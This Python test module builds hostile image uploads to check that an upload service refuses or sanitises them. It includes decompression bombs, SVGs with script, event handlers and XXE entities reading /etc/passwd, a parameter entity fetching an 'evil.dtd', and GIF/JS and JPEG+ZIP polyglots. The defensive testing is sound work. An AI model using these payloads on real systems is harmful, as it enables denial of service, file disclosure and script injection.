"""Hostile uploads, generated on the spot (never downloaded): broken, bomb, active and polyglot.

Each ``Hostile`` says what flarelite should do with it:

- ``refused``: the upload answers a 4xx envelope;
- ``sanitised``: an SVG that is accepted, its active parts removed before anyone gets it;
- ``either``: refusing is right, and so is accepting it, if delivery then re-encodes it safely
  (a JPEG with a ZIP appended is still a JPEG; corrupt entropy data may decode with warnings).

``forbidden`` lists byte strings that must never come back from delivery (scripts, handlers,
appended payloads, file contents).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

import pyvips

from tests.image_corpus import jpeg, png, png_declaring

Expect = Literal["refused", "sanitised", "either"]


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    expect: Expect
    forbidden: tuple[bytes, ...] = ()
    filename: str = "upload.bin"


# --- building blocks ----------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _png_with(ihdr: bytes, idat: bytes, *extra: bytes) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + b"".join(extra)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def gif(width: int = 64, height: int = 48) -> bytes:
    image = pyvips.Image.black(width, height, bands=3).new_from_image([200, 30, 30])
    return bytes(image.gifsave_buffer())


def webp(width: int = 64, height: int = 48) -> bytes:
    image = pyvips.Image.xyz(width, height)[0].cast("uchar").bandjoin([90, 160])
    return bytes(image.copy(interpretation="srgb").webpsave_buffer(Q=80))


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


def _garble(data: bytes, start: int, end: int, seed: int) -> bytes:
    """Overwrite data[start:end] with random bytes that are never 0xFF (no fake markers)."""
    noise = random.Random(seed).randbytes(end - start).replace(b"\xff", b"\xfe")
    return data[:start] + noise + data[end:]


def corrupt_jpeg() -> bytes:
    data = jpeg(256, 256)
    scan = data.index(b"\xff\xda")
    return _garble(data, scan + 40, len(data) - 40, seed=1)


def corrupt_png() -> bytes:
    """Valid chunks and CRCs around a zlib stream that is noise."""
    ihdr = struct.pack(">IIBBBBB", 256, 256, 8, 2, 0, 0, 0)
    noise = random.Random(2).randbytes(4000)
    return _png_with(ihdr, b"\x78\x9c" + noise)


def corrupt_gif() -> bytes:
    data = gif(128, 128)
    start = data.index(b",") + 12  # past the image descriptor and the LZW code size
    return _garble(data, start, len(data) - 4, seed=3)


def corrupt_webp() -> bytes:
    data = webp(256, 256)
    return _garble(data, 40, len(data) - 8, seed=4)


# --- bombs --------------------------------------------------------------------------------


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose SOF claims ``width`` x ``height``."""
    data = bytearray(jpeg(16, 16))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif_declaring(width: int, height: int) -> bytes:
    """Logical screen and one frame of ``width`` x ``height`` holding a single pixel."""
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\x00\x00"  # global colour table of 2
        + b"\x00\x00\x00\xff\xff\xff"
        + b","
        + struct.pack("<HHHH", 0, 0, width, height)
        + b"\x00\x02\x02\x44\x01\x00;"
    )


def webp_declaring(width: int, height: int) -> bytes:
    """An extended WebP (VP8X) whose canvas is ``width`` x ``height``, then a tiny VP8L."""
    small = webp(8, 8)
    inner = small[12:]  # the chunks after 'RIFF....WEBP'
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
    vp8x += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zlib_bomb(inflated: int = 2 << 30) -> bytes:
    """A zlib stream of ``inflated`` zero bytes in ~1/1000 of that: one flushed deflate run of
    1 MiB, repeated (full flushes make each run stand alone), then an empty final block."""
    run = 1 << 20
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(run)) + deflate.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    zeros = bytes(run)
    for _ in range(inflated // run):
        adler = zlib.adler32(zeros, adler)
    final = b"\x03\x00"  # BFINAL=1, fixed Huffman, end of block
    return b"\x78\xda" + block * (inflated // run) + final + struct.pack(">I", adler)


def png_zlib_bomb() -> bytes:
    """A 9000 x 9000 RGBA PNG (inside the pixel limit) whose IDAT inflates to 2 GiB."""
    ihdr = struct.pack(">IIBBBBB", 9000, 9000, 8, 6, 0, 0, 0)
    return _png_with(ihdr, zlib_bomb())


def png_ztxt_bomb() -> bytes:
    """A small, valid PNG carrying a zTXt text chunk that inflates to 1 GiB."""
    image = png(32, 32)
    ztxt = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib_bomb(1 << 30))
    return image[:33] + ztxt + image[33:]


def gif_frames(count: int) -> bytes:
    """``count`` frames of 1 x 1 pixel: cheap to make, costly for a decoder that trusts it."""
    frame = b"!\xf9\x04\x04\x01\x00\x00\x00" + b",\x00\x00\x00\x00\x01\x00\x01\x00\x00"
    frame += b"\x02\x02\x44\x01\x00"
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    head = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    return head + loop + frame * count + b";"


# --- SVG ----------------------------------------------------------------------------------

_SVG_OPEN = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    b' width="120" height="80"'
)


def svg(body: bytes, root_attrs: bytes = b"") -> bytes:
    return (
        _SVG_OPEN + root_attrs + b'><rect width="120" height="80" fill="teal"/>' + body + b"</svg>"
    )


def svg_cases(probe_url: str) -> list[Hostile]:
    """SVGs with active content; ``probe_url`` is a loopback origin that must never be hit."""
    probe = probe_url.encode()
    return [
        Hostile("svg script", lambda: svg(b"<script>alert(1)</script>"), "sanitised",
                (b"<script", b"alert("), "a.svg"),
        Hostile("svg script in a CDATA section",
                lambda: svg(b"<script><![CDATA[fetch('/x').then(alert)]]></script>"), "sanitised",
                (b"<script", b"fetch("), "a.svg"),
        Hostile("svg event handlers",
                lambda: svg(b'<circle r="9" onclick="alert(2)" onmouseover="alert(3)"/>',
                            b' onload="alert(1)"'),
                "sanitised", (b"onload", b"onclick", b"onmouseover", b"alert("), "a.svg"),
        Hostile("svg foreignObject with HTML",
                lambda: svg(b'<foreignObject width="100" height="50"><body xmlns='
                            b'"http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/>'
                            b"</body></foreignObject>"),
                "sanitised", (b"foreignObject", b"iframe", b"javascript:"), "a.svg"),
        Hostile("svg javascript: link",
                lambda: svg(b'<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>'),
                "sanitised", (b"javascript:",), "a.svg"),
        Hostile("svg XXE external entity",
                lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM '
                        b'"file:///etc/passwd">]>' + svg(b"<text>&xxe;</text>"),
                "refused", (b"root:",), "a.svg"),
        Hostile("svg XXE parameter entity to http",
                lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % dtd SYSTEM "'
                        + probe + b'/evil.dtd"> %dtd;]>' + svg(b""),
                "refused", (), "a.svg"),
        Hostile("svg billion laughs",
                lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol">'
                        + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">'
                                   % ((98 + i,) + (97 + i,) * 10) for i in range(9))
                        + b"]>" + svg(b"<text>&j;</text>"),
                "refused", (b"lollol",), "a.svg"),
        Hostile("svg xlink:href to file:",
                lambda: svg(b'<image xlink:href="file:///etc/passwd" width="9" height="9"/>'
                            b'<use xlink:href="file:///etc/hostname#x"/>'),
                "sanitised", (b"file:",), "a.svg"),
        Hostile("svg href and xlink:href to http:",
                lambda: svg(b'<image href="' + probe + b'/img.png" width="9" height="9"/>'
                            b'<use xlink:href="' + probe + b'/sprite.svg#a"/>'
                            b'<feImage xlink:href="' + probe + b'/fe.png"/>'),
                "sanitised", (probe,), "a.svg"),
        Hostile("svg CSS fetches",
                lambda: svg(b"<style>@import url(" + probe + b"/a.css); rect{fill:url("
                            + probe + b"/b.svg#g)}</style>"
                            b'<rect style="background:url(' + probe + b'/c.png)"/>'),
                "sanitised", (probe, b"@import"), "a.svg"),
    ]  # fmt: skip


# --- polyglots and EXIF -------------------------------------------------------------------


def gif_javascript() -> bytes:
    """GIF/JS: the width bytes open a comment, the trailer closes it and runs a script."""
    data = bytearray(gif_declaring(1, 1))
    data[6:8] = b"/*"  # width 10799: still a GIF, and `GIF89a/*` is the start of a script
    return bytes(data) + b"*/=alert(document.domain);//<script>alert(1)</script>"


def jpeg_with_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    return jpeg(128, 96) + archive.getvalue()


def png_with_html() -> bytes:
    return png(64, 48) + b"<html><body><script>alert(1)</script></body></html>"


def _with_app1(data: bytes, *segments: bytes) -> bytes:
    """Insert APP1 segments right after the JPEG's SOI marker."""
    body = b"".join(b"\xff\xe1" + struct.pack(">H", len(s) + 2) + s for s in segments)
    return data[:2] + body + data[2:]


def _tiff(entries: list[tuple[int, int, int, bytes]], next_ifd: int = 0) -> bytes:
    """A little-endian TIFF header and one IFD: (tag, type, count, 4-byte value)."""
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack("<HHI", tag, kind, count) + value
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", next_ifd)


def exif_huge() -> bytes:
    """One APP1 at its 64 KiB maximum: an IFD claiming 0xFFFF entries, then noise."""
    noise = random.Random(5).randbytes(65_000)
    tiff = b"II*\x00" + struct.pack("<IH", 8, 0xFFFF) + noise
    return _with_app1(jpeg(64, 48), b"Exif\x00\x00" + tiff[:65_500])


def exif_many_blocks() -> bytes:
    """140 APP1 EXIF blocks of 64 KiB each (about 9 MB of metadata around a tiny image)."""
    block = b"Exif\x00\x00" + _tiff([(0x010E, 2, 60_000, struct.pack("<I", 26))])
    block = block.ljust(65_000, b"A")
    return _with_app1(jpeg(32, 32), *([block] * 140))


def exif_malformed() -> bytes:
    """Offsets past the end, a huge count, an IFD that points to itself, orientation 65535."""
    entries = [
        (0x0112, 3, 1, struct.pack("<HH", 65535, 0)),  # orientation out of range
        (0x010F, 2, 0x7FFFFFFF, struct.pack("<I", 0xFFFFFF00)),  # make: count and offset absurd
        (0x8769, 4, 1, struct.pack("<I", 8)),  # EXIF sub-IFD = the IFD itself (a loop)
        (0x927C, 7, 0xFFFFFFFF, struct.pack("<I", 0x10)),  # maker note of 4 GiB
    ]
    return _with_app1(jpeg(64, 48), b"Exif\x00\x00" + _tiff(entries, next_ifd=8))


def png_exif_huge() -> bytes:
    """A PNG with a 2 MB eXIf chunk of noise."""
    image = png(32, 32)
    noise = b"II*\x00" + random.Random(6).randbytes(2_000_000)
    return image[:33] + png_chunk(b"eXIf", noise) + image[33:]


# --- the corpus ---------------------------------------------------------------------------


def raster_cases() -> list[Hostile]:
    return [
        Hostile("truncated JPEG", lambda: truncated(jpeg(256, 256)), "refused"),
        Hostile("truncated PNG", lambda: truncated(png(256, 256)), "refused"),
        Hostile("truncated GIF", lambda: truncated(gif(256, 256)), "refused"),
        Hostile("truncated WebP", lambda: truncated(webp(256, 256)), "refused"),
        Hostile("JPEG cut inside its headers", lambda: jpeg(64, 48)[:200], "refused"),
        Hostile("corrupt JPEG entropy data", corrupt_jpeg, "either"),
        Hostile("corrupt PNG zlib stream", corrupt_png, "refused"),
        Hostile("corrupt GIF LZW data", corrupt_gif, "either"),
        Hostile("corrupt WebP bitstream", corrupt_webp, "either"),
        Hostile("PNG declaring 1000000x1000000", lambda: png_declaring(1_000_000, 1_000_000),
                "refused"),
        Hostile("PNG declaring 2^31-1 square", lambda: png_declaring(2**31 - 1, 2**31 - 1),
                "refused"),
        Hostile("JPEG declaring 65500x65500", lambda: jpeg_declaring(65_500, 65_500), "refused"),
        Hostile("GIF declaring 65535x65535", lambda: gif_declaring(65_535, 65_535), "refused"),
        Hostile("WebP canvas 16777216 square", lambda: webp_declaring(1 << 24, 1 << 24),
                "refused"),
        Hostile("PNG whose IDAT inflates to 2 GiB", png_zlib_bomb, "either"),
        Hostile("PNG with a zTXt chunk inflating to 1 GiB", png_ztxt_bomb, "either"),
        Hostile("GIF with 5000 frames", lambda: gif_frames(5000), "refused"),
        Hostile("GIF with 400000 frames", lambda: gif_frames(400_000), "refused"),
        Hostile("GIF/JavaScript polyglot", gif_javascript, "either", (b"alert(", b"<script")),
        Hostile("JPEG with a ZIP appended", jpeg_with_zip, "either", (b"PK\x03\x04", b"<script")),
        Hostile("PNG with HTML after IEND", png_with_html, "either", (b"<html", b"<script")),
        Hostile("HTML behind a JPEG signature",
                lambda: b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", "refused"),
        Hostile("HTML behind a PNG signature",
                lambda: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "refused"),
        Hostile("EXIF block of 64 KiB claiming 65535 entries", exif_huge, "either"),
        Hostile("140 EXIF blocks of 64 KiB", exif_many_blocks, "either"),
        Hostile("EXIF with looping IFD and absurd counts", exif_malformed, "either"),
        Hostile("PNG with a 2 MB eXIf chunk", png_exif_huge, "either"),
    ]  # fmt: skip
